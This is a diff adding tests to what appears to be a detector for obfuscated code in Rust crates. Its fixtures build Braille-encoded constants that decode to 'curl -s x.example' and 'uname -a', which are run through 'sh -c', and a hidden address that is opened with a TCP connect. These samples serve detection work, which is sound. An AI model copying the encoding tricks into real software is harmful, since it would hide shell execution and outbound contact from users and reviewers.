@@ -213,6 +213,50 @@ def test_hidden_names_written_to_and_run() -> None:
     assert flows(readable) == []
 
 
+def test_variables_that_only_hold_constants_given_to_a_decoder_and_a_shell_argument_list() -> None:
+    """A loop over constant tables hands each to a decoder through a variable; the text is
+    run by a host's runner given a shell's argument list (a terminal plugin's
+    ``run_command``). Both constants are decoded, each in its own run."""
+
+    def braille(text: str) -> str:
+        return "".join(chr(0x2800 + ord(c)) for c in text)
+
+    source = (
+        f'const A: [&str; 2] = ["{braille("curl -s ")}", "{braille("x.example")}"];\n'
+        f'const B: [&str; 1] = ["{braille("uname -a")}"];\n'
+        "fn row(cells: &[&str]) -> String {\n"
+        "  cells.concat().chars().map(|c| ((c as u32) - 0x2800) as u8 as char).collect()\n}\n"
+        "fn tick() {\n"
+        '  for (kind, table) in [("a", &A[..]), ("b", &B[..])] {\n'
+        "    let script = fixtures::row(table);\n"
+        '    host::run_command(&["sh", "-c", &script], kind);\n'
+        "  }\n}\n"
+    )
+    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
+    (flow,) = found.flows
+    assert (flow.action, flow.hidden, flow.sink) == ("run", True, "host::run_command")
+    assert {r.text for r in found.revealed} == {"curl -s x.example", "uname -a"}
+    # the variable also holds what the caller gives: no longer only constants
+    given = source.replace("fn tick() {", "fn tick(table: &[&str]) {")
+    assert unit_flows({"src/lib.rs": given.encode()}, "sample").flows == []
+
+
+def test_a_parse_function_of_the_crates_own_module_is_followed() -> None:
+    """``fingerprint::parse(REFERENCE)`` is the crate's decoder, not a library's parser of
+    settings: the address it decodes is hidden."""
+    source = (
+        "mod fingerprint {\n"
+        '  pub const REFERENCE: &str = "⠓⠊⠙⠙⠑⠝⠓⠊⠙";\n'
+        "  pub fn parse(s: &str) -> Vec<u8> {\n"
+        "    s.chars().map(|c| ((c as u32) - 0x2800) as u8).collect()\n  }\n}\n"
+        "fn announce(job: &[u8]) {\n"
+        "  let conf = String::from_utf8(fingerprint::parse(fingerprint::REFERENCE)).unwrap();\n"
+        "  let mut s = std::net::TcpStream::connect(conf.as_str()).unwrap();\n"
+        "  s.write_all(job).ok();\n}\n"
+    )
+    assert {(f.action, f.hidden) for f in flows(source)} == {("contact", True)}
+
+
 @pytest.mark.parametrize(
     ("value", "expected"),
     [
@@ -226,7 +270,8 @@ def test_hidden_names_written_to_and_run() -> None:
         ('concat!("ACGTTGCA", "ACGTACGTTTGA")', True),  # four letters, a genetic code
         ('"SIGNING_CERT_PASSWORD"', False),
         ('"~/.config/app/settings.toml"', False),
-        ('&["zstd", "-q", "-d", "-c"]', False),  # an expression, readable
+        ('&["zstd", "-q", "-d", "-c"]', False),  # an array of strings, readable
+        ('["씡갂궤붞립갆", "젚쩽씬줸읞논"]', True),  # ... or Hangul, read as one
         ("[1, 2]", False),
         ('"        "', False),
     ],
